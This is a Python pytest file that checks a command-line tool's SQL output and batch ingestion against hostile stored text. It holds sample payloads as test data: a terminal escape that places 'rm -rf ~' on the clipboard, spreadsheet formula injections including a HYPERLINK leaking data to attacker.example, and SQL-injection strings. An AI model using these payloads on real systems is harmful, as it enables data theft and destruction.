"""Text that hostile parties put in the store reaching a person's terminal through ``autotts sql``.

A trace file's answers, a candidate's answers and failure text, an LLM's whole reply: all are stored as
text and read back with ``autotts sql``. Printed raw, their control characters are obeyed by the terminal
(a screen cleared, a forged row printed, the window title or clipboard set through OSC sequences).
"""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import duckdb
import pytest

from autotts.cli import main
from autotts.store.ingest import ingest_files
from tests.builders import branch, question, write_release
from tests.security import harness as h

FORGED = "\x1b[2J\x1b[H\x1b]52;c;cm0gLXJmIH4K\x07model  accuracy\n-----  --------\nM      100.00"


def test_an_ingested_answer_reaches_the_terminal_as_text_not_escapes(tmp_path: Path) -> None:
    release = write_release(tmp_path / "M" / "bench.json", [question([branch([FORGED], 10, FORGED)], gold="1")])
    store = tmp_path / "s.duckdb"
    ingest_files([release], store)  # the set-up; what is printed is the attack's target
    ran = h.run_cli("sql", "--store", str(store), "SELECT final_answer, 1 AS n FROM branches")
    assert ran.returncode == 0, ran.stderr[-2000:]
    obeyed = sorted({repr(c) for c in ran.stdout if not c.isprintable() and c != "\n"})
    assert not obeyed, f"control characters from the trace file reached the terminal: {obeyed}"
    assert len(ran.stdout.splitlines()) == 3, f"a stored answer printed extra table lines:\n{ran.stdout}"
    failed = h.run_cli("sql", "--store", str(store), "SELECT CAST(final_answer AS INTEGER) FROM branches")
    assert failed.returncode == 1 and "Could not convert" in failed.stderr, failed.stderr[-2000:]
    obeyed = sorted({repr(c) for c in failed.stderr if not c.isprintable() and c != "\n"})
    assert not obeyed, f"control characters quoted by an error reached the terminal: {obeyed}"


# Text in a trace file that a spreadsheet opening `autotts sql --format csv` output would run as a formula.
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # read as a formula by an import that trims spaces
    "\u3000=cmd|' /C calc'!A0",  # an ideographic space
    "\uff1dcmd|' /C calc'!A0",  # a full-width equals sign
]


def test_stored_text_reaches_a_spreadsheet_as_text_not_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    release = write_release(tmp_path / "M" / "bench.json", [
        question([branch(FORMULAS, 10, f), branch([], 20, "-3")], gold=FORMULAS[0], text=FORMULAS[1])
        for f in FORMULAS
    ])
    store = tmp_path / "s.duckdb"
    assert main(["ingest", "autotts-json", str(release), "--store", str(store)]) == 0
    assert main(["ingest", "autotts-json", str(release), "--model=" + FORMULAS[0], "--store", str(store)]) == 1
    capsys.readouterr()
    query = ("SELECT q.question, q.gold_answer, b.final_answer, p.answer, -b.branch_tokens AS minus FROM branches b "
             "JOIN questions q USING (question_idx) LEFT JOIN probes p USING (question_idx, branch_idx)")
    assert main(["sql", "--store", str(store), "--format", "csv", query]) == 0
    header, *rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(rows) == len(FORMULAS) * (len(FORMULAS) + 1), "a stored \\r broke a row in two"
    assert {len(r) for r in rows} == {5}
    cells = [cell for row in rows for cell in row]
    run = [c for c in cells if (c[:1] in ("\t", "\r") or c.lstrip()[:1] in ("=", "+", "-", "@", "\uff1d"))
           and c not in ("-3", "-10", "-20")]
    assert not run, f"stored text would run as a spreadsheet formula: {run}"
    assert {f"'{f}" for f in FORMULAS} <= set(cells), "the escaped text must keep every character of the original"
    assert {"-3", "-10", "-20"} <= set(cells), "a negative number, stored or computed, must stay a number"

    pivot = "PIVOT (SELECT final_answer FROM branches) ON final_answer USING count(*)"  # stored text as headers
    assert main(["sql", "--store", str(store), "--format", "csv", pivot]) == 0
    header = next(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert set(header) == {"-3", *(f"'{f}" for f in FORMULAS)}


def saved_batch(path: Path, op: object, table: str, key: str, rows: str | None, what: str) -> Path:
    """A batch file in the layout autotts saves beside a busy store, written by hand."""
    path.parent.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE batch AS SELECT ? AS what", [what])
    con.execute("CREATE TABLE replaces AS SELECT ? AS op, ? AS tbl, ? AS key, ? AS has_rows",
                [op, table, key, rows is not None])
    if rows is not None:
        con.execute(f"CREATE {'VIEW' if 'read_text' in rows else 'TABLE'} rows_0 AS {rows}")
    con.close()
    return path


@pytest.mark.parametrize("op, table, key, rows", [
    (0, "sources; COPY (SELECT 'pwned') TO '{out}'; DELETE FROM sources", '{"model": "M"}', None),
    (0, "sources", '{"model = model OR 1 = 1; COPY (SELECT 1) TO \'{out}\'; --": "M"}', None),
    ("0; COPY (SELECT 1) TO '{out}'", "sources", '{"model": "M"}', "SELECT 1 AS x"),
    (0, "sources", '{"model": "M"}', "SELECT 'M' AS model, 'not a column' AS nope"),
    (0, "sources", '{"model": "M"}', "SELECT 'M' AS model, 'B' AS benchmark"),  # no source: NOT NULL
    (0, "sources", '{"model": "M"}', "SELECT 'M' AS model, 'B' AS benchmark, content AS source, filename AS sha256, "
                                     "1 AS n_questions FROM read_text('{secret}')"),  # a view reading another file
])
def test_a_saved_batch_cannot_smuggle_sql_into_the_store(
    op: object, table: str, key: str, rows: str | None, small_store: Path, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    before = hashlib.sha256(small_store.read_bytes()).hexdigest()
    (tmp_path / "secret").write_text("a file outside the store and the batch")
    out = str(tmp_path / "pwned.csv")
    op = op.replace("{out}", out) if isinstance(op, str) else op
    batch = saved_batch(tmp_path / "from-a-colleague.duckdb", op, table.replace("{out}", out),
                        key.replace("{out}", out), rows and rows.replace("{secret}", str(tmp_path / "secret")),
                        what="1 evaluation\x1b[2J")
    assert main(["ingest", "pending", str(batch), "--store", str(small_store)]) == 1
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and str(batch) in err and "\x1b" not in err
    assert "transaction is aborted" not in err, "the error must say what was wrong, not what failed after it"
    assert not Path(out).exists(), "the batch ran its own SQL"
    assert hashlib.sha256(small_store.read_bytes()).hexdigest() == before and batch.exists()


def test_a_saved_batch_of_millions_of_equal_rows_is_refused_before_it_is_loaded(
    small_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import autotts.store.batch as batch_module

    monkeypatch.setattr(batch_module, "MAX_SAVED_BYTES", 2**21, raising=False)  # scaled from 512 MiB
    before = hashlib.sha256(small_store.read_bytes()).hexdigest()
    rows = "SELECT 'M' AS model, repeat('x', 100) AS benchmark FROM range(40000)"  # 4 MiB, packed small
    batch = saved_batch(tmp_path / "from-a-colleague.duckdb", 0, "sources", '{"model": "M"}', rows, what="1 source")
    assert batch.stat().st_size < 2**21
    assert main(["ingest", "pending", str(batch), "--store", str(small_store)]) == 1
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "more than 2 MiB of values" in err, err
    assert hashlib.sha256(small_store.read_bytes()).hexdigest() == before and batch.exists()
